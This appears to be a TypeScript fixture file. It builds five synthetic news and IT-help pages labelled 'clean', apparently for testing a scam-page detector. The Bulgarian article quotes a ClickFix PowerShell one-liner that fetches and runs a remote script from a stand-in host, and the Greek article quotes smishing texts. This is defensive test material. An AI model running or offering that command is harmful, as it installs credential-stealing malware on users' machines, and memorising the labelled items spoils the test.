import { type Entry } from '../entry.js';
import { cookieNotice, doc, newsFrame, photo } from '../parts/xc-kit.js';

// Kathimerini report quoting the current wave of scam SMS texts.
const kathimerini = newsFrame({
  lang: 'el',
  title: 'Κύμα απάτης με SMS: «gov.gr Wallet», ΕΛΤΑ και τράπεζες – Η ΚΑΘΗΜΕΡΙΝΗ',
  outlet: 'Η ΚΑΘΗΜΕΡΙΝΗ',
  color: '#1a1a1a',
  nav: ['Ελλάδα', 'Πολιτική', 'Οικονομία', 'Κόσμος', 'Γνώμες', 'Πολιτισμός'],
  extraCss: `.sms{background:#eef0f6;border-radius:14px 14px 14px 2px;padding:10px 14px;max-width:460px;font:15px Arial;margin:10px 0}`,
  article: `<div class="meta">ΕΛΛΑΔΑ · 12.11.2025 · Του Νίκου Χρυσικόπουλου</div>
<h1>Νέο κύμα απάτης με SMS: «Η ψηφιακή σας ταυτότητα λήγει»</h1>
<figure>${photo('SMS', 220)}<figcaption>Τα μηνύματα μιμούνται την εμφάνιση κρατικών υπηρεσιών και τραπεζών</figcaption></figure>
<p>Χιλιάδες πολίτες έλαβαν τις τελευταίες ημέρες μηνύματα που ισχυρίζονται ότι η ψηφιακή τους ταυτότητα στο gov.gr Wallet «λήγει» και πρέπει να ανανεωθεί. Ο σύνδεσμος οδηγεί σε ψεύτικη σελίδα σύνδεσης με κωδικούς Taxisnet.</p>
<p>Ενδεικτικά, τα μηνύματα που έχουν καταγραφεί είναι τα εξής:</p>
<div class="sms">gov.gr: Η ψηφιακή σας ταυτότητα λήγει σήμερα. Ανανεώστε εδώ για να μη διαγραφεί: wallet-gov-gr[.]ananeosi-tautotitas[.]com</div>
<div class="sms">ΕΛΤΑ: Το δέμα σας παρακρατείται στο τελωνείο. Τέλη 1,99€: elta[.]gr-paketo[.]info</div>
<div class="sms">Piraeus: Η πρόσβασή σας θα απενεργοποιηθεί. Επιβεβαιώστε τα στοιχεία σας: piraeus-secure[.]gr-verify[.]icu</div>
<p>Σύμφωνα με τη Δίωξη Ηλεκτρονικού Εγκλήματος, οι δράστες ζητούν στη συνέχεια ΑΜΚΑ, αριθμό κινητού και τον κωδικό που αποστέλλεται με SMS, με τον οποίο αποκτούν πρόσβαση σε λογαριασμούς ή ενεργοποιούν κάρτες σε ψηφιακά πορτοφόλια.</p>
<blockquote>«Το Δημόσιο δεν στέλνει ποτέ συνδέσμους για ανανέωση εγγράφων στο Wallet. Η ανανέωση γίνεται αυτόματα», ανέφερε αρμόδιο στέλεχος του υπουργείου.</blockquote>
<p>Όσοι έχουν συμπληρώσει στοιχεία καλούνται να αλλάξουν άμεσα τους κωδικούς Taxisnet και να επικοινωνήσουν με την τράπεζά τους.</p>`,
  sidebar: `<h4>Πρόσφατα</h4><p>Προϋπολογισμός 2026: τα βασικά μέτρα</p><p>Καιρός: βροχές στα δυτικά</p>`,
});

// Blic piece explaining how the fake celebrity-interview ads work, with the ad wording quoted.
const blic = newsFrame({
  lang: 'sr-Latn',
  title: 'Lažni intervjui poznatih: kako vas prevaranti mame na „investicione platforme“ – Blic',
  outlet: 'BLIC',
  color: '#d71920',
  nav: ['Vesti', 'Politika', 'Biznis', 'Sport', 'Zabava', 'Tehnologija'],
  article: `<div class="meta">Tehnologija · 08.11.2025.</div>
<h1>Voditelji „otkrivaju tajnu bogatstva“: tako izgledaju lažni članci koji Srbima uzimaju ušteđevinu</h1>
<figure>${photo('Oglas', 355)}<figcaption>Snimak ekrana lažnog članka koji kruži Fejsbukom (ilustracija)</figcaption></figure>
<p>Na društvenim mrežama ponovo se pojavljuju oglasi koji izgledaju kao vesti sa našeg portala. U njima poznati voditelj navodno priznaje da zarađuje na „Quantum“ platformi, a „Narodna banka je tražila da se snimak ukloni“.</p>
<blockquote>„Uložio sam 25.000 dinara. Posle mesec dana na računu sam imao 640.000.“ – citat iz lažnog članka</blockquote>
<p>Blic nikada nije objavio takav tekst. Stranice se nalaze na adresama koje samo podsećaju na naš domen, a obrazac za registraciju prosleđuje podatke pozivnim centrima u inostranstvu.</p>
<p>Kako kaže sagovornik iz NBS, „lični menadžer“ potom traži instaliranje AnyDeska i uplatu od 250 evra, a kasnije i mnogo veće iznose. Savet: proverite registar Komisije za hartije od vrednosti i nikome ne dajte daljinski pristup računaru.</p>`,
  sidebar: `<h4>Najnovije</h4><p>Nova pravila za e-fakture</p><p>Kursna lista</p>`,
});

// Dnevnik (Bulgaria) tech article on ClickFix, quoting a PowerShell command in a code block.
const dnevnik = newsFrame({
  lang: 'bg',
  title: 'ClickFix: фалшивите CAPTCHA, които ви карат сами да заразите компютъра си – Дневник',
  outlet: 'ДНЕВНИК',
  color: '#0a5c9e',
  nav: ['Новини', 'Икономика', 'Технологии', 'Свят', 'Коментари'],
  extraCss: `pre{background:#1e1e1e;color:#d4d4d4;padding:12px;font-size:13px;overflow:auto;border-radius:4px}`,
  article: `<div class="meta">Технологии · 05.11.2025</div>
<h1>„Натиснете Win + R и поставете кода“: как работят атаките ClickFix</h1>
<p>Експерти по киберсигурност предупреждават за все по-често срещан трик: вместо да качат вирус на компютъра Ви, нападателите Ви убеждават сами да стартирате команда. Страницата показва фалшива проверка „Не съм робот“, а след клик копира в клипборда ред като този:</p>
<pre>powershell -w hidden -c "iwr hxxps://cdn-check[.]example/v.ps1 -UseBasicParsing | iex" # Проверка: не съм робот</pre>
<p>Ако потребителят натисне <b>Win + R</b>, <b>Ctrl + V</b> и <b>Enter</b>, PowerShell изтегля и изпълнява скрипт, който краде запазени пароли и бисквитки от браузъра.</p>
<blockquote>„Нито една истинска CAPTCHA не изисква да отваряте прозореца Run. Ако сайт Ви казва това – затворете го“, коментира специалист от GovCERT.</blockquote>
<p>Компаниите могат да ограничат риска, като забранят диалога Run с групова политика и наблюдават стартирането на mshta.exe и powershell.exe.</p>`,
  sidebar: `<h4>Технологии</h4><p>Нов закон за киберсигурността</p><p>5G в малките градове</p>`,
});

// University IT-centre help page: how to map the network drive by pasting a path/command (legit "Win+R, paste").
const uniHelp = doc({
  lang: 'el',
  title: 'Σύνδεση προσωπικού δικτυακού δίσκου – Κέντρο Λειτουργίας Δικτύου, Πανεπιστήμιο Πατρών',
  css: `.h{background:#6b1d2a;color:#fff;padding:14px 26px}.w{max-width:820px;margin:20px auto;padding:0 18px;line-height:1.65}code,pre{background:#f4f4f4;font-family:Consolas,monospace}pre{padding:10px;position:relative}
.cp{position:absolute;right:6px;top:6px;font-size:12px;padding:3px 8px;border:1px solid #bbb;background:#fff;cursor:pointer}kbd{border:1px solid #aaa;border-radius:3px;padding:0 5px;background:#fafafa}`,
  body: `<div class="h"><b>Πανεπιστήμιο Πατρών</b> · Κέντρο Λειτουργίας Δικτύου · Οδηγοί</div>
<div class="w"><h1>Σύνδεση του προσωπικού σας δίσκου (Z:) από τα Windows</h1><p>Ο προσωπικός χώρος αποθήκευσης (10 GB) είναι διαθέσιμος από το δίκτυο του Πανεπιστημίου ή μέσω VPN.</p>
<h2>Τρόπος 1 – Από το παράθυρο «Εκτέλεση»</h2><ol><li>Πατήστε <kbd>Win</kbd> + <kbd>R</kbd>.</li><li>Επικολλήστε την παρακάτω διαδρομή και πατήστε <kbd>Enter</kbd>:</li></ol>
<pre id="p1">\\\\fs.upnet.gr\\home\\%USERNAME%<button class="cp" data-t="p1">Αντιγραφή</button></pre><ol start="3"><li>Δώστε το όνομα χρήστη σας στη μορφή <code>UPNET\\up1234567</code> και τον κωδικό σας.</li></ol>
<h2>Τρόπος 2 – Μόνιμη σύνδεση με γραμμή εντολών</h2><p>Ανοίξτε <b>Γραμμή εντολών</b> (όχι ως διαχειριστής) και εκτελέστε:</p>
<pre id="p2">net use Z: \\\\fs.upnet.gr\\home\\%USERNAME% /persistent:yes<button class="cp" data-t="p2">Αντιγραφή</button></pre>
<p><b>Ασφάλεια:</b> Το ΚΛΔ δεν θα σας ζητήσει ποτέ να επικολλήσετε εντολές PowerShell που κατεβάζουν αρχεία από το διαδίκτυο ή για να «αποδείξετε ότι δεν είστε ρομπότ». Σε αμφιβολία επικοινωνήστε στο helpdesk@upnet.gr.</p></div>
<script>document.querySelectorAll('.cp').forEach(function(b){b.onclick=function(){var t=document.getElementById(b.dataset.t).firstChild.textContent;navigator.clipboard.writeText(t).then(function(){b.textContent='Αντιγράφηκε'})}})</script>`,
});

// Company service-desk article: install the VPN root certificate by pasting a PowerShell line as admin.
const vpnHelp = doc({
  lang: 'sr-Latn',
  title: 'Instalacija VPN sertifikata – IT Service Desk',
  font: '"Segoe UI",Arial,sans-serif',
  css: `.h{background:#263238;color:#fff;padding:12px 24px;display:flex;justify-content:space-between}.w{max-width:860px;margin:20px auto;padding:0 18px;line-height:1.6}
pre{background:#0d1117;color:#c9d1d9;padding:12px;border-radius:6px;overflow:auto;font-size:13px}.cp{background:#2f81f7;color:#fff;border:0;padding:5px 12px;border-radius:4px;cursor:pointer}.kb{font-size:12px;color:#607d8b}`,
  body: `<div class="h"><b>IT Service Desk</b><span>KB0012447 · Ažurirano 03.11.2025. · Ana Petrović (IT infrastruktura)</span></div>
<div class="w"><h1>Instalacija novog root sertifikata za VPN (GlobalProtect)</h1><p>Od 15. novembra VPN gateway <b>vpn.mtel-grupa.rs</b> koristi sertifikat koji izdaje naš interni CA. Na službenim laptopovima sertifikat se instalira automatski putem Intune-a. Ako koristite računar van domena, instalirajte ga ručno:</p>
<ol><li>Preuzmite sertifikat sa <a href="https://pki.mtel-grupa.rs/MtelRootCA2025.cer">pki.mtel-grupa.rs</a> u fasciklu Preuzimanja.</li><li>Pritisnite <b>Win + X</b> i izaberite <b>Terminal (Administrator)</b>.</li><li>Nalepite sledeću komandu i pritisnite Enter:</li></ol>
<pre id="cmd">Import-Certificate -FilePath "$env:USERPROFILE\\Downloads\\MtelRootCA2025.cer" -CertStoreLocation Cert:\\LocalMachine\\Root</pre><button class="cp" id="c">Kopiraj komandu</button>
<p>Proverite otisak sertifikata: <code>SHA-256 4F:1A:9C:…:E2:07</code>. Ako se razlikuje, ne nastavljajte i javite se Service Desku (lokal 4444).</p>
<p class="kb">Napomena: IT nikada ne šalje komande putem e-maila ili ćaskanja i ne traži da ih pokrenete da biste „potvrdili nalog“.</p></div>
<script>document.getElementById('c').onclick=function(){navigator.clipboard.writeText(document.getElementById('cmd').textContent);this.textContent='Kopirano ✓'}</script>`,
});

export const entries: Entry[] = [
  { id: 'xc-clean-kathimerini-sms-scams-article', label: 'clean', kind: 'news-quoting-scam-sms', url: 'https://www.kathimerini.gr/society/563901242/neo-kyma-apatis-me-sms-i-psifiaki-sas-taytotita-ligei/', body: kathimerini },
  { id: 'xc-clean-blic-fake-interview-article', label: 'clean', kind: 'news-quoting-investment-scam', url: 'https://www.blic.rs/vesti/tehnologija/lazni-intervjui-poznatih-investicione-platforme/x8k2q9', body: blic },
  { id: 'xc-clean-dnevnik-clickfix-article', label: 'clean', kind: 'news-quoting-clickfix-command', url: 'https://www.dnevnik.bg/tehnologii/2025/11/05/4851207_clickfix_falshivite_captcha/', body: dnevnik },
  { id: 'xc-clean-uni-help-map-drive-gr', label: 'clean', kind: 'it-help-paste-command', url: 'https://www.upnet.gr/odigoi/diktyakos-diskos-windows', body: uniHelp.replace('</body>', `${cookieNotice('el', 'https://www.upnet.gr/cookies')}</body>`) },
  { id: 'xc-clean-it-help-vpn-cert-rs', label: 'clean', kind: 'it-help-powershell-command', url: 'https://servicedesk.mtel-grupa.rs/kb/KB0012447-vpn-sertifikat', body: vpnHelp },
];
